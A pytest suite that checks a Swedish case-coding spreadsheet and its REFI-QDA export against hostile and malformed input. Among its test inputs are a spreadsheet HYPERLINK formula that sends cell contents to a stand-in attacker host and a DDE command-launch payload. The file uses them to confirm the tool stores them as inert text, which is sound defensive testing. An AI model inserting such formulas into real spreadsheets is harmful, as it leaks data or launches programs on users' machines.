"""Adversarial corpus: the analysts' coding sheet and the REFI-QDA export.

Each case feeds the sheet an input the program never generated itself (a hostile or a
careless one) and asserts the outcome: the value is stored inert, the run stops with one
line naming sheet, row and column, or the analyst's code survives.
"""

from __future__ import annotations

import copy
import logging
import re
import shutil
import stat
import xml.etree.ElementTree as ET
import zipfile

import pytest
import yaml
from coding_helpers import (
    BOOK,
    VOCAB,
    libreoffice_save,
    make_cases,
    needs_soffice,
    sheet_csv_rows,
    with_links,
)
from conftest import CONFIG
from identity import pnr
from openpyxl import load_workbook
from openpyxl.styles import Font

from samverkan.coding.code import code_term
from samverkan.coding.codebook import codebook_from_dict, load_codebook
from samverkan.coding.refiqda import NS_PROJECT, export_project
from samverkan.coding.sheet import MERGED, SHEET, read_sheet, update_sheet
from samverkan.project.errors import InputError
from samverkan.project.schema import cases_schema
from samverkan.project.vocabulary import load_vocabulary

TEXTS = {
    "00000000c1": "Psykiatrin uteblev från SIP-mötet och skickade ingen ersättare.",
    "00000000c2": "Vi har sökt handläggaren i tre veckor utan återkoppling.",
    "00000000c3": "Patienten fick ett bra bemötande.",
}
HYPERLINK = '=HYPERLINK("http://angripare.invalid/?"&F3&F4,"Klicka här")'


def _cols(ws) -> dict[str, int]:
    return {c.value: c.column for c in ws[1] if c.value}


def _rows(ws) -> dict[str, int]:
    return {ws.cell(r, 1).value: r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value}


def _sheet(tmp_path, texts=TEXTS, **kw):
    path = tmp_path / "kodning" / "kodning.xlsx"
    update_sheet(make_cases(texts, **kw), path, BOOK)
    return path


def _edit(path, edits: dict[tuple[int, str | int], object]) -> None:
    """Edit cells as an analyst would: (row, header or column number) -> value."""
    wb = load_workbook(path)
    ws = wb[SHEET]
    cols = _cols(ws)
    for (r, col), value in edits.items():
        ws.cell(r, cols[col] if isinstance(col, str) else col, value=value)
    wb.save(path)


def _one_line(exc: pytest.ExceptionInfo) -> str:
    msg = str(exc.value)
    assert "\n" not in msg
    return msg


# ---- injection and characters -------------------------------------------------------------


@pytest.mark.parametrize("payload", [HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"])
def test_formula_like_text_is_stored_as_text(tmp_path, payload):
    path = _sheet(tmp_path, {"00000000c1": payload, "00000000c2": "vanlig text"})
    ws = load_workbook(path)[SHEET]
    cell = ws.cell(2, _cols(ws)["Beskrivning (avidentifierad)"])
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.lstrip("\n\t") == payload.lstrip("\r\t")


def test_injection_in_status_and_category_fields_is_inert(tmp_path):
    cases = make_cases(TEXTS)
    cases["status"] = cases["status"].astype("string")
    cases.loc[0, "status"] = "=1+1"
    cases.loc[1, "action"] = "@cmd|' /C calc'!A0"
    path = tmp_path / "kodning.xlsx"
    update_sheet(cases, path, BOOK)
    ws = load_workbook(path)[SHEET]
    cols = _cols(ws)
    for r, header in ((2, "Status i underlaget"), (3, "Åtgärd")):
        assert ws.cell(r, cols[header]).data_type == "s"


@needs_soffice
def test_libreoffice_shows_the_payload_as_text_and_evaluates_nothing(tmp_path):
    path = _sheet(tmp_path, {"00000000c1": HYPERLINK, "00000000c2": "=1+1", "00000000c3": "+4+4"})
    rows = sheet_csv_rows(path, tmp_path / "csv")
    col = rows[0].index("Beskrivning (avidentifierad)")
    assert [r[col] for r in rows[1:4]] == [HYPERLINK, "=1+1", "+4+4"]
    # the control: the same program does evaluate a formula cell, so the check can fail
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.save(tmp_path / "kontroll.xlsx")
    assert sheet_csv_rows(tmp_path / "kontroll.xlsx", tmp_path / "csv")[0][0] == "2"


@pytest.mark.parametrize("bad", ["\x0b", "\x00", "\x1b", "\x0c", "\x7f", "\x85", "\ufffe"])
def test_control_characters_never_stop_the_sheet(tmp_path, bad):
    texts = {"00000000c1": f"Rad ett{bad}rad två", "00000000c2": f"{bad}=1+1"}
    path = _sheet(tmp_path, texts)
    ws = load_workbook(path)[SHEET]
    col = _cols(ws)["Beskrivning (avidentifierad)"]
    first, second = ws.cell(2, col).value, ws.cell(3, col).value
    assert first in ("Rad ett\nrad två", "Rad ettrad två")
    assert bad not in first + second and ws.cell(3, col).data_type == "s"


# ---- headers ------------------------------------------------------------------------------


@pytest.mark.parametrize("header", ["A1: SIP", "a1 - Samordnad individuell plan", "A2: sip"])
def test_tidied_code_header_without_id_stops(tmp_path, header):
    path = _sheet(tmp_path)
    _edit(path, {(1, "A1: SIP [sip]" if header.lower().startswith("a1") else "A2: SIP [sip]"):
                 header, (2, "A1: Kommunikation [kommunikation]"): "x"})  # fmt: skip
    for run in (
        lambda: read_sheet(path, BOOK),
        lambda: update_sheet(make_cases(TEXTS), path, BOOK),
    ):
        with pytest.raises(InputError) as exc:
            run()
        msg = _one_line(exc)
        assert f"bladet {SHEET}, rad 1, kolumn " in msg and "saknar orsakens id" in msg
    if header.endswith(("SIP", "sip")):
        assert "[sip]'" in msg  # the fix names the exact header to write back


def test_relabelled_header_with_id_still_counts(tmp_path):
    path = _sheet(tmp_path)
    _edit(path, {(1, "A1: SIP [sip]"): "A1 – Samordnad individuell plan (SIP) [sip]",
                 (2, "A1: SIP [sip]"): "x"})  # fmt: skip
    sheet = read_sheet(path, BOOK).set_index("case_id")
    assert sheet.loc["2025VT-00000000c1", "a1_sip"]
    update_sheet(make_cases(TEXTS), path, BOOK)  # no new empty SIP column
    assert "A1: SIP [sip]" not in _cols(load_workbook(path)[SHEET])


@pytest.mark.parametrize("header", ["A1:kategori", "a1 -  Kategori", " A1 : kategori "])
def test_tidied_field_header_is_still_recognised(tmp_path, header):
    path = _sheet(tmp_path)
    _edit(path, {(1, "A1: kategori"): header, (2, "A1: kategori"): "Rutiner"})
    sheet = read_sheet(path, BOOK).set_index("case_id")
    assert sheet.loc["2025VT-00000000c1", "a1_category"] == "rutiner"
    assert update_sheet(make_cases(TEXTS), path, BOOK).new_columns == []


def test_id_without_owner_stops_but_own_columns_pass(tmp_path):
    path = _sheet(tmp_path)
    wb = load_workbook(path)
    ws = wb[SHEET]
    for i, own in enumerate(["Notis [viktigt]", "A10 uppföljning", "Förslagen vi gav"]):
        ws.cell(1, ws.max_column + 1 + i, value=own)
        ws.cell(2, ws.max_column, value="x")
    wb.save(path)
    assert len(read_sheet(path, BOOK)) == 3
    _edit(path, {(1, "A1: SIP [sip]"): "SIP [sip]"})
    with pytest.raises(InputError, match="inte vems kod det är"):
        read_sheet(path, BOOK)


def test_unknown_code_column_with_ticks_stops_and_an_empty_one_is_ignored(tmp_path):
    path = _sheet(tmp_path)
    wb = load_workbook(path)
    ws = wb[SHEET]
    col = ws.max_column + 1
    ws.cell(1, col, value="A1: Påhittad [pahittad]")
    wb.save(path)
    assert len(read_sheet(path, BOOK)) == 3  # empty: nothing to lose
    _edit(path, {(3, col): "x"})
    for run in (
        lambda: read_sheet(path, BOOK),
        lambda: update_sheet(make_cases(TEXTS), path, BOOK),
    ):
        with pytest.raises(InputError) as exc:
            run()
        msg = _one_line(exc)
        assert "rad 1, kolumn " in msg and "[pahittad] finns inte i kodboken" in msg


def test_a_removed_cause_with_codes_stops_instead_of_dropping_them(tmp_path):
    path = _sheet(tmp_path)
    _edit(path, {(2, "A1: Rutiner [rutiner]"): "x"})
    data = copy.deepcopy(yaml.safe_load((CONFIG / "codebook.yaml").read_text(encoding="utf-8")))
    data["causes"] = [c for c in data["causes"] if c["id"] != "rutiner"]
    for c in data["causes"]:
        c.pop("ersätter", None)
    smaller = codebook_from_dict(data, "kodbok.yaml")
    with pytest.raises(InputError, match=r"\[rutiner\] finns inte i kodboken"):
        update_sheet(make_cases(TEXTS), path, smaller)


def test_two_columns_for_the_same_code_stop(tmp_path):
    path = _sheet(tmp_path)
    wb = load_workbook(path)
    ws = wb[SHEET]
    ws.cell(1, ws.max_column + 1, value="A1: Samordnad plan [sip]")
    wb.save(path)
    with pytest.raises(InputError, match="har samma rubrik som kolumn"):
        read_sheet(path, BOOK)


def test_new_cause_column_goes_after_the_last_header_not_after_styled_columns(tmp_path):
    path = _sheet(tmp_path)
    wb = load_workbook(path)
    ws = wb[SHEET]
    last = max(c.column for c in ws[1] if c.value)
    for col in range(last + 1, last + 300):  # LibreOffice's styled empty columns
        ws.cell(1, col).font = Font(bold=True)
    wb.save(path)
    data = copy.deepcopy(yaml.safe_load((CONFIG / "codebook.yaml").read_text(encoding="utf-8")))
    data["causes"].append({"id": "samordning", "label": "Samordning", "category": "rutiner",
                           "definition": "Ny kod."})  # fmt: skip
    update_sheet(make_cases(TEXTS), path, codebook_from_dict(data, "kodbok.yaml"))
    cols = _cols(load_workbook(path)[SHEET])
    assert cols["Förslag: Samordning [samordning]"] == last + 1


# ---- case ids and ticks -------------------------------------------------------------------


def test_mistyped_case_id_stops_and_is_not_re_added(tmp_path):
    path = _sheet(tmp_path)
    _edit(path, {(3, "Ärende-id"): "2025VT-00000000cX", (3, "A1: SIP [sip]"): "x"})
    before = path.read_bytes()
    for run in (
        lambda: read_sheet(path, BOOK),
        lambda: update_sheet(make_cases(TEXTS), path, BOOK),
    ):
        with pytest.raises(InputError) as exc:
            run()
        msg = _one_line(exc)
        assert f"bladet {SHEET}, rad 3, kolumn A" in msg and "cX" not in msg
    assert path.read_bytes() == before


@pytest.mark.parametrize("edit", [str.lower, lambda s: s[:-1], lambda s: s.replace("VT", "HT")])
def test_any_edited_case_id_stops(tmp_path, edit):
    path = _sheet(tmp_path)
    _edit(path, {(2, "Ärende-id"): edit("2025VT-00000000c1")})
    with pytest.raises(InputError, match="rad 2, kolumn A: ärende-id:t finns inte"):
        update_sheet(make_cases(TEXTS), path, BOOK)


def test_removed_case_is_still_flagged_not_refused(tmp_path):
    path = _sheet(tmp_path)
    fewer = {k: v for k, v in TEXTS.items() if k != "00000000c3"}
    result = update_sheet(make_cases(fewer), path, BOOK)
    assert result.flagged_removed == 1
    assert read_sheet(path, BOOK).set_index("case_id").loc["2025VT-00000000c3", "removed"]


@pytest.mark.parametrize("value", ["2", "kanske", "xx", "?", 0.5])
def test_unreadable_tick_stops_naming_row_and_column(tmp_path, value):
    path = _sheet(tmp_path)
    _edit(path, {(4, "A2: SIP [sip]"): value})
    with pytest.raises(InputError) as exc:
        read_sheet(path, BOOK)
    msg = _one_line(exc)
    assert f"bladet {SHEET}, rad 4, kolumn " in msg and "A2: SIP [sip]" in msg
    assert "kanske" not in msg


# ---- codes carried over when linking and the codebook change ------------------------------


def _linked_cases():
    """c1 coded alone first; then the other party's report (d1) arrives and is kept."""
    later = dict(TEXTS) | {"00000000d1": "Psykiatrin kom inte till SIP-mötet."}
    del later["00000000c1"]
    return with_links(make_cases(later), {"2025VT-00000000d1": "2025VT-00000000c1"})


def test_coded_case_that_becomes_a_duplicate_keeps_its_codes(tmp_path, caplog):
    path = _sheet(tmp_path)
    _edit(path, {(2, "A1: Resurser [resurser]"): "x", (2, "A1: kommentar"): "viktig"})
    cases = _linked_cases()
    with caplog.at_level(logging.INFO):
        result = update_sheet(cases, path, BOOK)
    assert result.merged == 1 and result.carried and result.flagged_removed == 0
    assert any("följde med" in r.getMessage() for r in caplog.records)
    sheet = read_sheet(path, BOOK).set_index("case_id")
    kept = sheet.loc["2025VT-00000000d1"]
    assert kept["a1_resurser"] and kept["a1_comment"] == "viktig"
    ws = load_workbook(path)[SHEET]
    status = ws.cell(_rows(ws)["2025VT-00000000c1"], _cols(ws)["Status i underlaget"]).value
    assert status == MERGED + "2025VT-00000000d1"
    plain = cases
    if "linked_case_id" not in cases_schema(VOCAB).columns:  # until ingest records it
        plain = cases.drop(columns="linked_case_id")
    coded = code_term(plain, sheet.reset_index(), BOOK, VOCAB)
    row = coded.set_index("case_id").loc["2025VT-00000000d1"]
    assert row["coding"] == "manuell" and row["manual_causes"] == "resurser"
    # the next run changes nothing
    again = update_sheet(cases, path, BOOK)
    assert (again.merged, again.carried, again.conflicts) == (0, [], [])


def test_both_rows_coded_differently_is_reported_not_overwritten(tmp_path, caplog):
    path = _sheet(tmp_path, TEXTS | {"00000000d1": "Psykiatrin kom inte till SIP-mötet."})
    ws = load_workbook(path)[SHEET]
    rows = _rows(ws)
    _edit(path, {(rows["2025VT-00000000c1"], "A1: Resurser [resurser]"): "x",
                 (rows["2025VT-00000000d1"], "A1: SIP [sip]"): "x"})  # fmt: skip
    with caplog.at_level(logging.WARNING):
        result = update_sheet(_linked_cases(), path, BOOK)
    assert result.conflicts and not result.carried
    assert any("kodade olika" in r.getMessage() for r in caplog.records)
    kept = read_sheet(path, BOOK).set_index("case_id").loc["2025VT-00000000d1"]
    assert kept["a1_sip"] and not kept["a1_resurser"]


def test_approval_of_the_whole_text_does_not_move_to_the_other_partys_text(tmp_path, caplog):
    path = _sheet(tmp_path)
    _edit(path, {(2, "A1: SIP [sip]"): "x", (2, "A1: citat godkänt"): "x"})
    with caplog.at_level(logging.WARNING):
        result = update_sheet(_linked_cases(), path, BOOK)
    assert result.carried and result.quote_not_carried
    assert any("godkänn det på nytt" in r.getMessage() for r in caplog.records)
    kept = read_sheet(path, BOOK).set_index("case_id").loc["2025VT-00000000d1"]
    assert kept["a1_sip"] and not kept["quote_approved"]


def test_deleted_row_is_added_again_and_said(tmp_path, caplog):
    path = _sheet(tmp_path)
    wb = load_workbook(path)
    wb[SHEET].delete_rows(3)
    wb.save(path)
    with caplog.at_level(logging.INFO):
        result = update_sheet(make_cases(TEXTS), path, BOOK)
    assert result.readded == 1 and result.added == 1
    assert any("lades till igen" in r.getMessage() for r in caplog.records)


def test_new_cause_in_codebook_keeps_ticked_rows_coded(tmp_path):
    path = _sheet(tmp_path)
    _edit(path, {(2, "A1: SIP [sip]"): "x", (3, "A2: Resurser [resurser]"): "x"})
    data = copy.deepcopy(yaml.safe_load((CONFIG / "codebook.yaml").read_text(encoding="utf-8")))
    data["causes"].insert(0, {"id": "samordning", "label": "Samordning", "category": "rutiner",
                              "definition": "Ny kod."})  # fmt: skip
    config = tmp_path / "config"
    shutil.copytree(CONFIG, config)
    (config / "codebook.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    bigger = load_codebook(config / "codebook.yaml")
    update_sheet(make_cases(TEXTS), path, bigger)
    sheet = read_sheet(path, bigger)
    coded = code_term(make_cases(TEXTS), sheet, bigger, load_vocabulary(config))
    coded = coded.set_index("case_id")
    assert coded.loc["2025VT-00000000c1", "manual_causes"] == "sip"
    assert coded.loc["2025VT-00000000c2", "manual_causes"] == "resurser"
    assert (coded.loc[coded["coding"] == "manuell", "manual_causes"].str.len() > 0).all()


@pytest.mark.parametrize("new_id", ["samordning-plan", "Ny_Orsak", "samordning_å"])
def test_new_cause_with_any_id_is_one_column_that_counts(tmp_path, new_id):
    path = _sheet(tmp_path)
    data = copy.deepcopy(yaml.safe_load((CONFIG / "codebook.yaml").read_text(encoding="utf-8")))
    data["causes"].append({"id": new_id, "label": "Samordning", "category": "rutiner",
                           "definition": "Ny kod."})  # fmt: skip
    bigger = codebook_from_dict(data, "kodbok.yaml")
    first = update_sheet(make_cases(TEXTS), path, bigger)
    assert f"A1: Samordning [{new_id}]" in first.new_columns
    _edit(path, {(2, f"A1: Samordning [{new_id}]"): "x"})
    assert update_sheet(make_cases(TEXTS), path, bigger).new_columns == []  # no duplicate
    row = read_sheet(path, bigger).set_index("case_id").loc["2025VT-00000000c1"]
    assert row[f"a1_{new_id}"] and row["a1_coded"]


def test_corrected_text_is_never_overwritten_and_is_used(tmp_path):
    path = _sheet(tmp_path)
    fix = f"Personalbrist gjorde att hemtjänsten inte kom. Ring {pnr('19760115', 482)}."
    _edit(path, {(4, "Korrigerad text"): fix})
    update_sheet(make_cases(TEXTS), path, BOOK)
    update_sheet(make_cases(TEXTS), path, BOOK)
    ws = load_workbook(path)[SHEET]
    assert ws.cell(4, _cols(ws)["Korrigerad text"]).value == fix
    sheet = read_sheet(path, BOOK)
    coded = code_term(make_cases(TEXTS), sheet, BOOK, VOCAB).set_index("case_id")
    row = coded.loc["2025VT-00000000c3"]
    assert "4821" not in row["description"] and "Personalbrist" in row["description"]
    assert "resurser" in row["auto_causes"]


# ---- open sheets, permissions -------------------------------------------------------------


@pytest.mark.parametrize("lock", ["~$kodning.xlsx", ".~lock.kodning.xlsx#"])
def test_sheet_open_in_excel_or_libreoffice_is_never_rewritten(tmp_path, lock):
    path = _sheet(tmp_path)
    (path.parent / lock).write_text("låst")
    before = path.read_bytes()
    with pytest.raises(InputError) as exc:
        update_sheet(make_cases(TEXTS | {"00000000c9": "Ny."}), path, BOOK)
    assert "är öppet i" in _one_line(exc) and path.read_bytes() == before


def test_folder_and_files_are_private(tmp_path):
    path = _sheet(tmp_path)
    update_sheet(make_cases(TEXTS), path, BOOK)
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE((path.parent / "kodning.bak.xlsx").stat().st_mode) == 0o600


# ---- LibreOffice: styled empty rows, round trip ------------------------------------------


def test_styled_empty_rows_do_not_move_new_cases(tmp_path):
    path = _sheet(tmp_path)
    wb = load_workbook(path)
    ws = wb[SHEET]
    for r in range(5, 1100):  # what LibreOffice leaves below the data
        ws.cell(r, 3).font = Font(italic=True)
    ws.freeze_panes = None
    wb.save(path)
    update_sheet(make_cases(TEXTS | {"00000000c9": "Ny."}), path, BOOK)
    ws = load_workbook(path)[SHEET]
    assert _rows(ws)["2025VT-00000000c9"] == 5 and ws.freeze_panes == "B2"
    ranges = " ".join(str(dv.sqref) for dv in ws.data_validations.dataValidation)
    assert "2005" in ranges and "3099" not in ranges


@needs_soffice
def test_libreoffice_round_trip_keeps_edits_validation_and_freeze(tmp_path):
    cats = {"00000000c2": "rutiner"}
    path = _sheet(tmp_path, category=cats)
    _edit(path, {(2, "A1: SIP [sip]"): "x", (3, "A1: kategori"): "Rutiner",
                 (4, "Korrigerad text"): "Rättad text.", (4, "A1: inga orsaker"): "x"})  # fmt: skip
    for cycle in range(2):
        libreoffice_save(path, tmp_path / f"lo{cycle}")
        lo_wb = load_workbook(path)
        lo = lo_wb[SHEET]
        assert any(dv.showErrorMessage for dv in lo.data_validations.dataValidation)
        assert "_samverkan_ids" in lo_wb.sheetnames  # the ids the program wrote survive
        new = {f"00000000e{cycle}": "Inget svar från BUP."}
        update_sheet(
            make_cases(TEXTS | new | ({"00000000e0": "x."} if cycle else {}), category=cats),
            path,
            BOOK,
        )
        ws = load_workbook(path)[SHEET]
        assert _rows(ws)[f"2025VT-00000000e{cycle}"] == 5 + cycle
        assert ws.freeze_panes == "B2"
        dvs = ws.data_validations.dataValidation
        assert all(dv.showErrorMessage and dv.error for dv in dvs)
        assert max(int(n) for dv in dvs for n in re.findall(r"\d+", str(dv.sqref))) <= (
            5 + cycle + 2000
        )
    sheet = read_sheet(path, BOOK).set_index("case_id")
    assert sheet.loc["2025VT-00000000c1", "a1_sip"]
    assert sheet.loc["2025VT-00000000c2", "a1_category"] == "rutiner"
    assert sheet.loc["2025VT-00000000c3", "corrected"] == "Rättad text."
    assert sheet.loc["2025VT-00000000c3", "a1_none"]
    ws = load_workbook(path)[SHEET]
    assert ws.cell(3, _cols(ws)["Kategori i källan"]).value == "Rutiner"


# ---- REFI-QDA ----------------------------------------------------------------------------


def test_refiqda_text_has_no_control_characters_and_lf_only(tmp_path):
    texts = {"00000000c1": "Rad ett\r\nrad två\x0bmed\x00 NUL", "00000000c2": "A\rB\x1f"}
    coded = code_term(make_cases(texts), None, BOOK, VOCAB)
    out = export_project(coded, BOOK, tmp_path / "projekt.qdpx")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with zipfile.ZipFile(out) as z:
        root = ET.fromstring(z.read("project.qde"))
        for src in root.iter(f"{{{NS_PROJECT}}}TextSource"):
            text = z.read(f"sources/{src.get('guid')}.txt").decode("utf-8")
            assert "\r" not in text and not any(ord(ch) < 32 and ch not in "\n\t" for ch in text)
            for sel in src.iter(f"{{{NS_PROJECT}}}PlainTextSelection"):
                assert int(sel.get("endPosition")) == len(text)
